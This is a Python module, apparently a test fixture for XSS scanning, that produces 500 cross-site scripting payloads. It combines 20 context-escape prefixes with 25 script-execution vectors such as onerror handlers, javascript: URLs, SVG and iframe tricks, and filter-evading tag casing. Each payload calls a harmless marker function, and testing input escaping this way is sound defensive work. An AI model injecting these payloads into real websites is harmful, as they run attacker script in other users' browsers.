"""Five hundred texts that run in a page which writes one of them as it is; each calls xss(its number)."""

from __future__ import annotations

BEFORE = (
    "", '">', "'>", "</script>", "</style></title>", "</textarea></select>", "-->", "]]>", "*/", "`}", "${", '\\";',
    "&quot;>", "&#39;>", "\u2028", "<!--><", "{{", "\x1b]", "Ünï ", "%22%3E",
)  # fmt: skip
"""What ends the text, attribute, comment or script that a payload may have been written into."""

CODE = (
    "<script>xss({n})</script>",
    "<ScRiPt/x>xss({n})</sCrIpT >",
    "<img data-xss src=x onerror=xss({n})>",
    "<img data-xss src='x'onerror='xss({n})'>",
    "<svg data-xss onload=xss({n})>",
    "<svg data-xss><script>xss({n})</script></svg>",
    "<svg data-xss><animate onbegin=xss({n}) attributeName=x dur=1s>",
    "<math data-xss><mtext><img data-xss src=x onerror=xss({n})></mtext></math>",
    "<iframe data-xss srcdoc='<script>parent.xss({n})</script>'></iframe>",
    '<iframe data-xss src="javascript:parent.xss({n})"></iframe>',
    "<details data-xss open ontoggle=xss({n})>a</details>",
    "<input data-xss autofocus onfocus=xss({n})>",
    '" data-xss autofocus onfocus=xss({n}) x="',
    "' data-xss onmouseover=xss({n}) x='",
    '<a data-xss href="javascript:xss({n})">a</a>',
    "javascript:xss({n})",
    "data:text/html,<script>xss({n})</script>",
    "<video data-xss><source onerror=xss({n})></video>",
    "<audio data-xss src=x onerror=xss({n})>",
    "<object data-xss data=x onerror=xss({n})></object>",
    "<form data-xss><button formaction=javascript:xss({n})>a</button></form>",
    "<meta data-xss http-equiv=refresh content='0;url=javascript:xss({n})'>",
    '<div data-xss hx-get="/healthz" hx-trigger="load" hx-on::load="xss({n})">a</div>',
    "<base data-xss href='javascript:xss({n})//'>",
    "<template data-xss><script>xss({n})</script></template><img data-xss src=x onerror=xss({n})>",
)

PAYLOADS = tuple(
    before + code.format(n=1 + at * len(BEFORE) + i) for at, code in enumerate(CODE) for i, before in enumerate(BEFORE)
)
